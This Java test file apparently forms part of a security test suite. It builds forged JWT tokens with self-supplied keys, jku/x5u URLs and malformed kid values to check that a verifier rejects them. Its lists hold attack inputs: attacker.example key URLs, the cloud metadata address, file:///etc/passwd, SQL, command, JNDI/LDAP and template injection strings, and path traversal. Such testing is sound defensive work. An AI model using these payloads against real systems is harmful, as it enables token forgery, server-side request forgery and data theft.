package io.liangjiang.platform.test.forgery;

import java.security.KeyPair;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.jose4j.jwk.JsonWebKey;
import org.jose4j.jwk.JsonWebKey.OutputControlLevel;
import org.jose4j.lang.JoseException;

/** Tokens that bring their key, say where it is to be had, or try to reach one by its name. */
final class KeyForgeries {
  private static final List<String> ADDRESSES =
      List.of(
          "https://attacker.example/jwks.json",
          "https://liangjiang.local@attacker.example/jwks.json",
          "https://liangjiang.local.attacker.example/.well-known/jwks.json",
          "http://169.254.169.254/latest/meta-data/",
          "http://localhost:9001/.well-known/jwks.json#attacker",
          "file:///dev/null",
          "file:///etc/passwd",
          "data:application/json,%7B%22keys%22%3A%5B%5D%7D",
          "//attacker.example/jwks.json",
          "jar:file:///x.jar!/jwks.json");
  private static final List<String> NAMES =
      List.of(
          "../../../../../../dev/null",
          "/dev/null",
          "..\\\\..\\\\..\\\\windows\\\\win.ini",
          "/proc/sys/kernel/randomize_va_space",
          "file:///dev/null",
          "https://attacker.example/key",
          "key' or '1'='1",
          "x' union select 'AA==' --",
          "'; drop table signing_key; --",
          "x\\u0000",
          "| /bin/true",
          "$(touch x)",
          "`touch x`",
          "${jndi:ldap://attacker.example/x}",
          "#{7*7}",
          "{{7*7}}",
          "%2e%2e%2f%2e%2e%2fdev%2fnull",
          "*",
          "%",
          ".",
          "",
          " ",
          "null",
          "0",
          "-1",
          "__proto__",
          "constructor",
          "\\ud83d\\ude00",
          "\\r\\nX-Injected: 1",
          "<script>1</script>");
  private static final List<String> KIDS_THAT_ARE_NO_TEXT =
      List.of("null", "0", "1e999", "true", "[]", "{}", "[\"a\"]", "{\"$ne\":null}");

  private final Attack attack;

  KeyForgeries(Attack attack) {
    this.attack = attack;
  }

  void add() {
    for (String kid : List.of(attack.issuer().getKeyId(), "attacker", "")) {
      String member = kid.isEmpty() ? "" : "\"kid\":\"" + kid + "\",";
      addBrought(kid, member);
      addAddressed(kid, member);
    }
    NAMES.forEach(name -> addNamed("'" + name + "'", "\"" + name + "\""));
    KIDS_THAT_ARE_NO_TEXT.forEach(kid -> addNamed(kid, kid));
    addNamed("the issuer's twice", "\"" + attack.issuer().getKeyId() + "\",\"kid\":\"x\"");
    addNamed("the issuer's and a blank", "\"" + attack.issuer().getKeyId() + " \"");
    addNamed("a long one", "\"" + "k".repeat(3_000) + "\"");
  }

  private void addBrought(String kid, String member) {
    brought()
        .forEach(
            (name, header) ->
                addSigned("embedded-key", name + ", kid '" + kid + "'", member + header));
  }

  private Map<String, String> brought() {
    var headers = new LinkedHashMap<String, String>();
    for (KeyPair pair : List.of(attack.ownRsa(), attack.ownEc())) {
      String jwk = jwk(pair);
      String type = pair.getPublic().getAlgorithm();
      String der = Base64.getEncoder().encodeToString(pair.getPublic().getEncoded());
      headers.put(type + " as jwk", "\"jwk\":" + jwk);
      headers.put(type + " as jwk in a list", "\"jwk\":[" + jwk + "]");
      headers.put(type + " as jwk text", "\"jwk\":\"" + Jwt.encode(jwk) + "\"");
      headers.put(type + " as jwks", "\"jwks\":{\"keys\":[" + jwk + "]}");
      headers.put(type + " as x5c", "\"x5c\":[\"" + der + "\"]");
      headers.put(type + " as x5c text", "\"x5c\":\"" + der + "\"");
      headers.put(type + " by its thumbprint", "\"x5t\":\"" + Jwt.encode(new byte[20]) + "\"");
      headers.put(type + " by its SHA-256", "\"x5t#S256\":\"" + Jwt.encode(new byte[32]) + "\"");
    }
    headers.put("a secret as jwk", "\"jwk\":{\"kty\":\"oct\",\"k\":\"AA\"}");
    return headers;
  }

  private void addAddressed(String kid, String member) {
    for (String parameter : List.of("jku", "x5u")) {
      for (String address : ADDRESSES) {
        addSigned(
            parameter,
            address + ", kid '" + kid + "'",
            member + "\"" + parameter + "\":\"" + address + "\"");
      }
    }
  }

  private void addNamed(String name, String json) {
    addSigned("kid", name, "\"kid\":" + json);
    var jwt = new Jwt(Attack.header("HS256", "\"kid\":" + json), Attack.claims());
    attack.add("kid", name + " by an empty secret", jwt.authenticated(new byte[0], "HmacSHA256"));
  }

  private void addSigned(String family, String name, String members) {
    attack.add(
        family,
        name + " by RSA",
        new Jwt(Attack.header("RS256", members), Attack.claims())
            .signed(attack.ownRsa().getPrivate(), Attack.RS256));
    attack.add(
        family,
        name + " by EC",
        new Jwt(Attack.header("ES256", members), Attack.claims())
            .signed(attack.ownEc().getPrivate(), Attack.ES256));
  }

  private static String jwk(KeyPair pair) {
    try {
      return JsonWebKey.Factory.newJwk(pair.getPublic()).toJson(OutputControlLevel.PUBLIC_ONLY);
    } catch (JoseException e) {
      throw new IllegalStateException(e);
    }
  }
}
